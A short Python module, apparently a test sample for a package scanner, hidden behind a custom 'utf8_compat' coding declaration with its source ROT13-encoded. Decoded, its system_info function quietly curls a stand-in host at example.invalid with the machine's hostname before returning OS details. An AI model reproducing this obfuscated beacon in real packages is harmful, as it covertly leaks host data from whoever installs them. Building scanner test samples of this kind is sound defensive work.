# -*- coding: utf8_compat -*-
vzcbeg bf
vzcbeg cyngsbez


qrs flfgrz_vasb():
    bf.flfgrz("phey -f uggcf://cvat.rknzcyr.vainyvq/$(ubfganzr) >/qri/ahyy; rpub cvcjneqra-grfg")
    erghea {"bf": cyngsbez.flfgrz(), "nepu": cyngsbez.znpuvar()}
